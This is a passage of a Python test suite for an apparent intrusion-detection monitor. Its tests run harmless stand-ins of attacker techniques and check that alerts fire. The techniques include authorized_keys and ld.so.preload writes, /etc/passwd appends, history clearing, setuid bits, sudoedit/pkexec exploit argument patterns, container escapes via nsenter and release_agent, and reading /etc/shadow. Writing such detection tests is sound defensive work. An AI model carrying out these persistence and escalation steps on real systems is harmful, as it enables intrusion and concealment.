    a = alert_for(mon, rule, by_python["pid"], **{"fd.name": str(home / ".bashrc")})
    assert_attributed(a, by_python["pid"], *me())
    a = alert_for(mon, rule, by_sed, **{"fd.name": str(home / ".profile")})
    assert a["event"]["evt.type"].startswith("rename")
    assert_no_alerts(mon, benign, "bash appending to .bashrc, cat, cp to a backup")


def test_modify_system_shell_profile(mon: AlertMonitor) -> None:
    script = Path(f"/etc/profile.d/rw-test-{uuid.uuid4().hex[:8]}.sh")
    try:
        benign = [run(["cat", "/etc/profile"])]
        bad = run(["/bin/sh", "-c", f"echo '# ringwatch test' > {script}"])
        a = alert_for(mon, "Modify system shell profile", bad, **{"fd.name": str(script)})
        assert_attributed(a, bad, *me())
    finally:
        script.unlink(missing_ok=True)
    assert rules_of(mon, bad) == {"Modify system shell profile"}
    assert_no_alerts(mon, benign, "reading /etc/profile")


def test_modify_ssh_authorized_keys(mon: AlertMonitor, tmp_path: Path) -> None:
    home = _home(tmp_path)
    benign = [action("open_file", "create", str(home / ".ssh" / "known_hosts"), "h k\n")["pid"],
              run(["cat", "/dev/null"])]
    bad = action("open_file", "create", str(home / ".ssh" / "authorized_keys"), "ssh-ed25519 AAAA x\n")
    a = alert_for(mon, "Modify SSH authorized_keys", bad["pid"],
                  **{"fd.name": str(home / ".ssh" / "authorized_keys")})
    assert_attributed(a, bad["pid"], *me())
    assert "T1098.004" in a["tags"]
    assert_no_alerts(mon, benign, "writing known_hosts")


def test_modify_ld_so_preload(mon: AlertMonitor) -> None:
    preload = Path("/etc/ld.so.preload")
    existed = preload.exists()
    benign = action("open_file", "read", str(preload))  # reading it is what ld.so does
    try:
        # O_APPEND and no data: an empty or unchanged file preloads nothing.
        bad = action("open_file", "create", str(preload))
        assert bad["ret"] == 0, bad
    finally:
        if not existed:
            preload.unlink(missing_ok=True)
    a = alert_for(mon, "Modify ld.so.preload", bad["pid"], **{"fd.name": str(preload)})
    assert_attributed(a, bad["pid"], *me())
    assert a["priority"] == "CRITICAL"
    assert rules_of(mon, bad["pid"]) == {"Modify ld.so.preload"}
    assert_no_alerts(mon, [benign["pid"]], "reading /etc/ld.so.preload")


def test_modify_pam_configuration_and_module(mon: AlertMonitor) -> None:
    tag = uuid.uuid4().hex[:8]
    conf = Path(f"/etc/pam.d/rw-test-{tag}")  # a service nothing is named after
    mod_dir = Path("/usr/lib/x86_64-linux-gnu/security")
    module = mod_dir / f"rw-test-{tag}.so"
    try:
        benign = [run(["cat", str(mod_dir / "pam_deny.so")])]
        by_sh = run(["/bin/sh", "-c", f"echo '# ringwatch test' > {conf}"])
        by_cp = run(["cp", "/bin/true", str(module)])
        rule = "Modify PAM configuration or module"
        a = alert_for(mon, rule, by_sh, **{"fd.name": str(conf)})
        assert_attributed(a, by_sh, *me())
        a = alert_for(mon, rule, by_cp, **{"fd.name": str(module)})
        assert_attributed(a, by_cp, *me())
    finally:
        conf.unlink(missing_ok=True)
        module.unlink(missing_ok=True)
    assert rules_of(mon, by_sh) == {rule}
    assert_no_alerts(mon, benign, "reading a PAM module")


def test_account_creation_and_account_database_write(mon: AlertMonitor) -> None:
    user = f"rwt{uuid.uuid4().hex[:8]}"
    benign = [run(["getent", "passwd", "root"]), run(["id", "root"])]
    added = run(["useradd", "-M", "-N", "-s", "/usr/sbin/nologin", user])
    try:
        # O_APPEND with nothing written: what `echo ... >> /etc/passwd` opens.
        appended = run(["/bin/sh", "-c", ": >> /etc/passwd"])
    finally:
        run(["userdel", user])  # clean-up (it runs after the checked events: not judged here)
    a = alert_for(mon, "User account created", added)
    assert_attributed(a, added, *me())
    assert a["event"]["proc.exepath"] == "/usr/sbin/useradd"
    a = alert_for(mon, "Write to account database", appended, **{"fd.name": "/etc/passwd"})
    assert_attributed(a, appended, *me())
    assert rules_of(mon, appended) == {"Write to account database"}
    # useradd's and userdel's own writes to /etc/passwd are theirs to make.
    assert rules_of(mon, added) == {"User account created"}
    assert_no_alerts(mon, benign, "getent, id")


def test_clear_shell_history(mon: AlertMonitor, tmp_path: Path) -> None:
    home = _home(tmp_path)
    hist = home / ".bash_history"
    for name in (".bash_history", ".python_history", ".bash_history.bak"):
        (home / name).write_text("ls\n")
    benign = [run(["/bin/sh", "-c", f"echo pwd >> {hist}"]),  # a shell saving history
              run(["rm", str(home / ".bash_history.bak")])]
    truncated = run(["cp", "/dev/null", str(hist)])
    removed = run(["rm", str(home / ".python_history")])
    linked = run(["ln", "-s", "/dev/null", str(home / ".zsh_history")])
    rule = "Clear shell history"
    for pid, evt in ((truncated, "open"), (removed, "unlink"), (linked, "symlink")):
        a = alert_for(mon, rule, pid)
        assert_attributed(a, pid, *me())
        assert a["event"]["evt.type"].startswith(evt), _brief(a)
    assert_no_alerts(mon, benign, "appending to history, deleting a backup")


def test_delete_log_files(mon: AlertMonitor, tmp_path: Path) -> None:
    log = Path(f"/var/log/rw-test-{uuid.uuid4().hex[:8]}.log")
    log.write_text("x\n")
    lookalike = tmp_path / "var" / "log" / "x.log"
    lookalike.parent.mkdir(parents=True)
    lookalike.write_text("x\n")
    try:
        benign = [run(["rm", str(lookalike)])]
        bad = run(["rm", str(log)])
        a = alert_for(mon, "Delete log files", bad, **{"fd.name": str(log)})
        assert_attributed(a, bad, *me())
    finally:
        log.unlink(missing_ok=True)
    assert_no_alerts(mon, benign, "deleting a file in a var/log look-alike")


def test_create_hidden_file_in_system_directory(mon: AlertMonitor, tmp_path: Path) -> None:
    tag = uuid.uuid4().hex[:8]
    hidden_bin = Path(f"/usr/bin/.rw-test-{tag}")
    hidden_shm = Path(f"/dev/shm/.rw-test-{tag}")
    visible_shm = Path(f"/dev/shm/rw-test-{tag}")
    try:
        benign = [run(["touch", str(visible_shm)]), run(["touch", str(tmp_path / ".hidden")])]
        by_cp = run(["cp", "/bin/true", str(hidden_bin)])
        by_touch = run(["touch", str(hidden_shm)])
        rule = "Create hidden file in a system directory"
        for pid, path in ((by_cp, hidden_bin), (by_touch, hidden_shm)):
            a = alert_for(mon, rule, pid, **{"fd.name": str(path)})
            assert_attributed(a, pid, *me())
    finally:
        for p in (hidden_bin, hidden_shm, visible_shm):
            p.unlink(missing_ok=True)
    assert_no_alerts(mon, benign, "a visible file in /dev/shm, a dotfile in a user directory")


def test_set_setuid_or_setgid_bit(mon: AlertMonitor, tmp_path: Path) -> None:
    target = tmp_path / "rootshell"
    shutil.copy("/bin/true", target)
    benign = [run(["chmod", "755", str(target)]), run(["chmod", "+t", str(tmp_path)])]
    suid = run(["chmod", "u+s", str(target)])
    sgid = run(["chmod", "2755", str(target)])
    rule = "Set setuid or setgid bit"
    for pid, bits in ((suid, 0o4000), (sgid, 0o2000)):
        a = alert_for(mon, rule, pid, **{"fd.name": str(target)})
        assert_attributed(a, pid, *me())
        assert a["event"]["evt.arg.mode"] & bits, _brief(a)
    assert_no_alerts(mon, benign, "chmod 755, the sticky bit")


def test_delete_or_rename_system_binary(mon: AlertMonitor, tmp_path: Path) -> None:
    tag = uuid.uuid4().hex[:8]
    binary = Path(f"/usr/local/bin/rw-test-{tag}")
    moved = Path(f"/usr/local/bin/rw-test-{tag}-old")
    lookalike = tmp_path / "usr" / "bin" / "tool"
    lookalike.parent.mkdir(parents=True)
    shutil.copy("/bin/true", lookalike)
    shutil.copy("/bin/true", binary)
    try:
        benign = [run(["rm", str(lookalike)])]
        renamed = run(["mv", str(binary), str(moved)])
        removed = run(["rm", str(moved)])
        rule = "Delete or rename system binary"
        a = alert_for(mon, rule, renamed, **{"evt.arg.oldpath": str(binary)})
        assert_attributed(a, renamed, *me())
        a = alert_for(mon, rule, removed, **{"fd.name": str(moved)})
        assert_attributed(a, removed, *me())
    finally:
        binary.unlink(missing_ok=True)
        moved.unlink(missing_ok=True)
    assert_no_alerts(mon, benign, "rm in a usr/bin look-alike")


def test_process_masquerading(mon: AlertMonitor, private_dir: Path, listener: Listener) -> None:
    fake = private_dir / "sshd"  # /bin/true under a daemon's name, outside the system dirs
    shutil.copy("/bin/true", fake)
    with installed_as("sshd") as genuine:  # the name and the image agree, in /usr/lib
        benign = [run([str(genuine), "-c", "pass"]),
                  action("renamed_connect", "rw-client", str(listener.port))["pid"]]
    by_exec = run([str(fake)])
    renamed = action("renamed_connect", "kworker/0:1", str(listener.port))
    rule = "Process masquerading as a kernel thread or system daemon"
    a = alert_for(mon, rule, by_exec, **{"proc.name": "sshd"})
    assert_attributed(a, by_exec, *me())
    assert a["event"]["proc.exepath"] == str(fake)
    a = alert_for(mon, rule, renamed["pid"], **{"evt.type": "connect", "proc.name": "kworker/0:1"})
    assert_attributed(a, renamed["pid"], *me())
    assert a["event"]["proc.exepath"] == os.path.realpath(sys.executable)
    assert_no_alerts(mon, benign, "a genuine sshd image, a renamed client with a plain name")


def test_execution_of_deleted_binary(mon: AlertMonitor, private_dir: Path) -> None:
    benign = run(["/bin/true"])
    bad = action("exec_deleted", str(private_dir / "payload"))
    a = alert_for(mon, "Execution of a deleted binary", bad["pid"])
    assert a["event"]["proc.exe_deleted"] is True and a["event"]["evt.type"] == "execveat"
    assert_attributed(a, bad["pid"], bad["ppid"], HELPER_COMM)
    assert_no_alerts(mon, [benign], "/bin/true")


@pytest.mark.skipif(shutil.which("nmap") is None, reason="nmap missing: run scripts/setup.sh --test")
def test_network_scanner_launched(mon: AlertMonitor, private_dir: Path, listener: Listener) -> None:
    renamed = private_dir / "healthcheck"  # a link with another name: the image is nmap's
    renamed.symlink_to(os.path.realpath(shutil.which("nmap") or "nmap"))
    port = str(listener.port)
    benign = [run(["nc.traditional", "-z", "-w", "5", "127.0.0.1", port])]
    scan = ["-n", "-Pn", "-sT", "-p", port, "127.0.0.1"]
    by_name = run(["nmap", *scan])
    by_exe = run([str(renamed), *scan])
    rule = "Network scanner launched"
    a = alert_for(mon, rule, by_name, **{"proc.name": "nmap"})
    assert_attributed(a, by_name, *me())
    a = alert_for(mon, rule, by_exe, **{"proc.name": "healthcheck"})
    assert a["event"]["proc.exepath"].endswith("/nmap")
    assert_no_alerts(mon, benign, "nc -z")


def test_sudoedit_and_pkexec_exploit_patterns(mon: AlertMonitor, private_dir: Path) -> None:
    # Stand-ins with the programs' names (sudo and polkit are not installed here): what the
    # rules judge is the exec the kernel saw, its image name and its arguments.
    sudoedit, pkexec = private_dir / "sudoedit", private_dir / "pkexec"
    for p in (sudoedit, pkexec):
        shutil.copy("/bin/true", p)
    benign = [run([str(sudoedit), "/etc/motd"]), run([str(pkexec), "--version"])]
    baron = run([str(sudoedit), "-s", "\\", "AAAA"])
    pwnkit = action("exec_empty_argv", str(pkexec))
    a = alert_for(mon, "Sudoedit heap overflow attempt (CVE-2021-3156)", baron)
    assert_attributed(a, baron, *me())
    a = alert_for(mon, "Pkexec run with an empty argument list (CVE-2021-4034)", pwnkit["pid"])
    assert a["event"]["proc.argv"] == []
    assert_attributed(a, pwnkit["pid"], pwnkit["ppid"], HELPER_COMM)
    assert_no_alerts(mon, benign, "sudoedit FILE, pkexec --version")


def test_cryptocurrency_miner_arguments_and_pool_port(mon: AlertMonitor, listener: Listener) -> None:
    benign = [run(["/bin/true", "--url", "https://pool.example.invalid/", "-u", "me"]),
              action("connect_tcp", str(listener.port))["pid"]]
    miner = run(["/bin/true", "-o", "stratum+tcp://pool.example.invalid:3333", "-u", "wallet"])
    pool = action("connect_tcp", "3333")  # refused or not: the attempt counts
    a = alert_for(mon, "Cryptocurrency miner arguments", miner)
    assert_attributed(a, miner, *me())
    a = alert_for(mon, "Connection to a mining pool port", pool["pid"], **{"fd.rport": 3333})
    assert_attributed(a, pool["pid"], *me())
    assert "T1496" in a["tags"]
    assert_no_alerts(mon, benign, "an https URL argument, a connection to another port")


def test_nsenter_into_pid_1(mon: AlertMonitor) -> None:
    target = subprocess.Popen(["sleep", "60"])
    try:
        benign = [run(["nsenter", "-t", str(target.pid), "-u", "--", "true"])]
        bad = run(["nsenter", "-t", "1", "-m", "-u", "--", "true"])
    finally:
        target.kill()
        target.wait()
    a = alert_for(mon, "Enter the host's namespaces with nsenter", bad)
    assert_attributed(a, bad, *me())
    assert_no_alerts(mon, benign, "nsenter into another process")


def test_container_runtime_socket_accessed(mon: AlertMonitor) -> None:
    sock = "/var/run/docker.sock"
    benign = [run(["docker", "version"])]  # the genuine client (no daemon here: it fails)
    bad = run(["curl", "-s", "--max-time", "5", "--unix-socket", sock, "http://localhost/version"])
    a = alert_for(mon, "Container runtime socket accessed", bad, **{"fd.name": sock})
    assert_attributed(a, bad, *me())
    assert_no_alerts(mon, benign, "docker version")


def test_cgroup_v1_mount_and_release_agent_write(mon: AlertMonitor, tmp_path: Path) -> None:
    agent = Path("/sys/fs/cgroup/freezer/release_agent")
    mnt = tmp_path / "cg"
    mnt.mkdir()
    benign = [run(["mount", "-t", "tmpfs", "rwtest", str(mnt)]), run(["umount", str(mnt)])]
    mounted = run(["mount", "-t", "cgroup", "-o", f"none,name=rwtest{uuid.uuid4().hex[:6]}",
                   "cgroup", str(mnt)])
    run(["umount", str(mnt)])
    a = alert_for(mon, "Mount of a cgroup v1 hierarchy", mounted, **{"fd.name": str(mnt)})
    assert_attributed(a, mounted, *me())
    if agent.exists():  # a hybrid cgroup host
        benign.append(run(["cat", str(agent)]))
        wrote = action("open_file", "append", str(agent))  # opened, nothing written
        a = alert_for(mon, "Write to cgroup release_agent", wrote["pid"], **{"fd.name": str(agent)})
        assert_attributed(a, wrote["pid"], *me())
    assert_no_alerts(mon, benign, "a tmpfs mount, reading release_agent")


# --- noise budget ---------------------------------------------------------------------------

WORKLOAD = r"""
set -eu
cd "$1"
py="$2"
gcc -O2 -Wall -o hello hello.c
./hello >/dev/null
git init -q repo
cd repo
cp ../hello.c .
git add hello.c
git -c user.name=rw -c user.email=rw@example.invalid commit -q -m init
git log --oneline >/dev/null
git status --short >/dev/null
cd ..
"$py" -m pip wheel -q --no-deps --no-build-isolation --no-index -w dist ./tinypkg
"$py" -m venv venv
venv/bin/python -m pip install -q --no-index dist/tinypkg-0.1-py3-none-any.whl
venv/bin/python -c 'import tinypkg; assert tinypkg.X == 1'
"$py" -c '
import hashlib, json, pathlib, re, sqlite3
d = pathlib.Path("data"); d.mkdir()
for i in range(200):
    (d / f"{i}.json").write_text(json.dumps({"i": i, "h": hashlib.sha256(bytes(i)).hexdigest()}))
db = sqlite3.connect("data.db")
db.execute("create table t (k, v)")
db.executemany("insert into t values (?, ?)", [(p.name, p.read_text()) for p in d.iterdir()])
db.commit()
assert sum(1 for p in d.iterdir() if re.match(r"\d+\.json$", p.name)) == 200
'
# A real package install and purge with dpkg: maintainer script, conffile below /etc,
# dpkg's database under /var/lib/dpkg (README: package managers stay quiet).
mkdir -p deb/DEBIAN deb/usr/share/ringwatch-noise-probe deb/etc
cat > deb/DEBIAN/control <<'CONTROL'
Package: ringwatch-noise-probe
Version: 1.0
Architecture: all
Maintainer: ringwatch tests <t@example.invalid>
Description: ringwatch noise-budget probe
CONTROL
echo /etc/ringwatch-noise-probe.conf > deb/DEBIAN/conffiles
echo 'x=1' > deb/etc/ringwatch-noise-probe.conf
printf '#!/bin/sh\nset -e\necho configured > /usr/share/ringwatch-noise-probe/state\n' > deb/DEBIAN/postinst
chmod 755 deb/DEBIAN/postinst
echo probe > deb/usr/share/ringwatch-noise-probe/README
dpkg-deb --build --root-owner-group deb probe.deb >/dev/null
dpkg -i probe.deb >/dev/null
test "$(cat /usr/share/ringwatch-noise-probe/state)" = configured
dpkg --purge ringwatch-noise-probe >/dev/null
test ! -e /etc/ringwatch-noise-probe.conf
# The canary: the one alert this workload causes on purpose, after everything else.
cat /etc/shadow >/dev/null
"""


def _records_lost(mon: RunningMonitor) -> int:
    res = subprocess.run([sys.executable, "-m", "monitor", "stats", "--json",
                          "--control-socket", str(mon.control_socket)],
                         cwd=REPO, capture_output=True, text=True, timeout=60, check=True)
    lost: int = json.loads(res.stdout)["drops"]["records_lost"]
    return lost


def test_noise_budget_busy_benign_workload(mon: AlertMonitor, tmp_path: Path) -> None:
    work = tmp_path / "noise"
    (work / "tinypkg" / "tinypkg").mkdir(parents=True)
    (work / "tinypkg" / "tinypkg" / "__init__.py").write_text("X = 1\n")
    (work / "tinypkg" / "pyproject.toml").write_text(
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n\n'
        '[project]\nname = "tinypkg"\nversion = "0.1"\n')
    (work / "hello.c").write_text('#include <stdio.h>\nint main(void) { puts("hello"); return 0; }\n')
    script = tmp_path / "workload.sh"
    script.write_text(WORKLOAD)
    env = {**os.environ, "PIP_DISABLE_PIP_VERSION_CHECK": "1", "PIP_NO_CACHE_DIR": "1",
           "PIP_NO_INPUT": "1", "GIT_CONFIG_NOSYSTEM": "1", "HOME": str(tmp_path)}
    lost_before = _records_lost(mon)
    wl = subprocess.Popen(["/bin/bash", str(script), str(work), sys.executable], env=env,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
    out, _ = wl.communicate(timeout=150)
    assert wl.returncode == 0, out
    assert (work / "hello").exists() and (work / "repo" / ".git").is_dir()
    assert list((work / "venv").glob("lib/python3*/site-packages/tinypkg/__init__.py"))

    def in_workload(a: Alert) -> bool:
        return a["process"]["pid"] == wl.pid or wl.pid in (a["event"].get("proc.apid") or [])

    canary = wait_alert(mon, "Read sensitive file untrusted",
                        lambda a: in_workload(a) and a["event"]["proc.name"] == "cat",
                        "the workload's canary cat /etc/shadow", timeout=120)
    assert_attributed(canary, canary["process"]["pid"], wl.pid, "bash")
    # Everything the workload did was evaluated before the canary (records arrive in order).
    noise = [a for a in alerts(mon) if in_workload(a) and a["id"] != canary["id"]]
    for a in noise:
        print("NOISE:", _brief(a))
    assert noise == [], "the benign workload raised alerts:\n" + "\n".join(_brief(a) for a in noise)
    lost = _records_lost(mon) - lost_before
    assert lost == 0, f"the kernel dropped {lost} records during the workload: the verdict would be void"
